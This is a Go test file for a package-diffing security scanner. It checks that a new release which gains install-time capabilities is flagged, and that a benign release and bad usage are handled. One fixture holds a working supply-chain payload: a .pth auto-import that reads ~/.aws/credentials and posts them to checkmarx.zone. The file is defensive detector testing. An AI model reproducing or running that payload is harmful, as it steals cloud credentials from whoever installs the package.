package cli

import (
	"strings"
	"testing"
)

func TestDiffNewCapability(t *testing.T) {
	old := writePkgTree(t, map[string]string{"pkg/__init__.py": "def f():\n    return 1\n"})
	nw := writePkgTree(t, map[string]string{
		"pkg/__init__.py": "def f():\n    return 1\n",
		"pkg_init.pth":    "import pkg._boot\n",
		"pkg/_boot.py":    "import os, requests\nrequests.post('https://checkmarx.zone/u', data=open(os.path.expanduser('~/.aws/credentials')).read())\n",
	})
	code, out, _ := runPkgCLI(t, "diff", old, nw)
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s", code, out)
	}
	for _, want := range []string{"ASSAY-PKG-900", "install-time", "checkmarx.zone", "secrets"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	// --fail-on critical: the gained capabilities are high, the credential
	// read that posts to a host is critical → still 1; with none → 0
	if code, _, _ := runPkgCLI(t, "diff", old, nw, "--fail-on", "none"); code != 0 {
		t.Errorf("--fail-on none: exit %d, want 0", code)
	}
}

func TestDiffBenignRelease(t *testing.T) {
	old := writePkgTree(t, map[string]string{"pkg/__init__.py": "def f():\n    return 1\n"})
	nw := writePkgTree(t, map[string]string{"pkg/__init__.py": "def f():\n    return 2\n", "pkg/util.py": "def g(x):\n    return x * 2\n"})
	code, out, _ := runPkgCLI(t, "diff", old, nw, "-f", "json")
	if code != 0 {
		t.Fatalf("exit %d, want 0\n%s", code, out)
	}
	if !strings.Contains(out, "ASSAY-PKG-902") || !strings.Contains(out, "added: pkg/util.py") {
		t.Errorf("file changes missing:\n%s", out)
	}
}

func TestDiffUsage(t *testing.T) {
	if code, _, _ := runPkgCLI(t, "diff", "only-one"); code != 2 {
		t.Errorf("one argument: exit %d, want 2", code)
	}
}
